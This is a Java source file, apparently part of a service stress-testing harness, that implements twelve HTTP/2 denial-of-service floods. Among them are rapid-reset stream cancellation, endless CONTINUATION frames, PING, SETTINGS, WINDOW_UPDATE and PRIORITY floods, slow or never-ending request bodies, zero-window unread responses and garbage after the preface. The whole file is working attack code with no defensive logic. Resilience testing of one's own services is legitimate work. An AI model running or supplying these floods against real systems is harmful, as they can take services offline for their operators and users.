import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Random;
import javax.net.ssl.SSLSocket;

/** What nobody needs credentials for over HTTP/2. */
final class TwoFloods {
    private static final int STREAMS = 127;
    private static final int WINDOW = 65_535;
    private static final int BATCH = 1_000;
    private static final int FRAME = 16_384;

    private TwoFloods() {}

    static List<Flood> all() {
        return List.of(
                new Flood("h2-headers", 41, 500, TwoFloods::headers),
                new Flood("h2-bodies", 10, 500, TwoFloods::bodies),
                new Flood("h2-window", 2, 500, at -> again(at, Frames.WINDOW_UPDATE, 0, Frames.FOUR)),
                new Flood("h2-ping", 2, 500, at -> again(at, Frames.PING, 0, new byte[8])),
                new Flood("h2-settings", 2, 500, at -> again(at, Frames.SETTINGS, 0)),
                new Flood("h2-priority", 2, 500, TwoFloods::priorities),
                new Flood("h2-reset", 2, 500, TwoFloods::resets),
                new Flood("h2-empty", 2, 500, TwoFloods::empty),
                new Flood("h2-continuation", 2, 500, TwoFloods::continuations),
                new Flood("h2-unread", 4, 500, TwoFloods::unread),
                new Flood("h2-garbage", 2, 500, TwoFloods::garbage),
                new Flood("h2-preface", 10, 500, TwoFloods::preface));
    }

    private static SSLSocket open(Target at, int window) throws IOException {
        var socket = at.tls("h2");
        Frames.begin(window).to(socket);
        return socket;
    }

    private static Call post(Target at) {
        return Call.signIn("", at.host(), "nobody", "nobody", "nothing");
    }

    /** Requests whose bodies never come. */
    private static void headers(Target at) throws IOException {
        try (var socket = open(at, WINDOW)) {
            var block = Frames.block(post(at));
            var frames = Frames.none();
            for (int i = 0; i < STREAMS; i++) {
                frames.add(Frames.HEADERS, Frames.END_HEADERS, 2 * i + 1, block);
            }
            frames.to(socket);
            Target.drain(socket.getInputStream());
        }
    }

    /** The same, with a byte of each body now and then. */
    private static void bodies(Target at) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            var block = Frames.block(post(at));
            for (int i = 0; i < STREAMS / 4; i++) {
                Frames.none().add(Frames.HEADERS, Frames.END_HEADERS, 2 * i + 1, block).to(socket);
            }
            while (!at.over()) {
                var frames = Frames.none();
                for (int i = 0; i < STREAMS / 4; i++) {
                    frames.add(Frames.DATA, 0, 2 * i + 1, (byte) ' ');
                }
                frames.to(socket);
                at.pause(2_000);
            }
        }
    }

    private static void again(Target at, int type, int flags, byte... payload) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            read(socket);
            var batch = Frames.many(BATCH, type, flags, payload);
            while (!at.over()) {
                socket.getOutputStream().write(batch);
                at.pause(10); // at most 100,000 frames a second
            }
        }
    }

    private static void priorities(Target at) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            read(socket);
            while (!at.over()) {
                var frames = Frames.none();
                for (int i = 1; i <= BATCH; i++) {
                    frames.add(Frames.PRIORITY, 0, 2 * i + 1, (byte) 0, (byte) 0, (byte) 0, (byte) 0, (byte) 1);
                }
                frames.to(socket);
                at.pause(10);
            }
        }
    }

    /** Requests that are begun and called off at once. */
    private static void resets(Target at) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            read(socket);
            var block = Frames.block(Call.plain("", at.host(), "/openapi.json"));
            for (int stream = 1; !at.over(); ) {
                var frames = Frames.none();
                for (int i = 0; i < 50; i++, stream += 2) {
                    frames.add(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, stream, block);
                    frames.add(Frames.RST_STREAM, 0, stream, Frames.CANCEL);
                }
                frames.to(socket);
                at.pause(50);
            }
        }
    }

    /** A body of nothing, without an end. */
    private static void empty(Target at) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            read(socket);
            Frames.none().add(Frames.HEADERS, Frames.END_HEADERS, 1, Frames.block(post(at))).to(socket);
            while (!at.over()) {
                var frames = Frames.none();
                for (int i = 0; i < BATCH; i++) {
                    frames.empty(Frames.DATA, 0, 1);
                }
                frames.to(socket);
                at.pause(10);
            }
        }
    }

    /** A head without an end. */
    private static void continuations(Target at) throws IOException, InterruptedException {
        try (var socket = open(at, WINDOW)) {
            read(socket);
            var part = new ByteArrayOutputStream();
            while (part.size() < FRAME - 200) {
                Frames.field(part, "x-filler-" + part.size(), "x".repeat(100));
            }
            Frames.none().add(Frames.HEADERS, 0, 1, Frames.block(post(at))).to(socket);
            while (!at.over()) {
                Frames.none().add(Frames.CONTINUATION, 0, 1, part.toByteArray()).to(socket);
                at.pause(10);
            }
        }
    }

    /** Answers for which there is no room, and never will be. */
    private static void unread(Target at) throws IOException {
        try (var socket = open(at, 0)) {
            var block = Frames.block(Call.plain("", at.host(), "/openapi.json"));
            var frames = Frames.none();
            for (int i = 0; i < 100; i++) {
                frames.add(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, 2 * i + 1, block);
            }
            frames.to(socket);
            Target.drain(socket.getInputStream());
        }
    }

    private static void garbage(Target at) throws IOException {
        try (var socket = at.tls("h2")) {
            var noise = new byte[FRAME];
            new Random().nextBytes(noise);
            socket.getOutputStream().write(Frames.PREFACE);
            socket.getOutputStream().write(noise);
            Target.drain(socket.getInputStream());
        }
    }

    /** HTTP/2 was agreed on, and not a byte of it comes. */
    private static void preface(Target at) throws IOException {
        try (var socket = at.tls("h2")) {
            Target.drain(socket.getInputStream());
        }
    }

    // What the service says meanwhile is read: an attacker who does not is another.
    private static void read(SSLSocket socket) {
        Thread.ofVirtual().start(() -> {
            try (socket) {
                Target.drain(socket.getInputStream());
            } catch (IOException _) {
                // it is over
            }
        });
    }
}
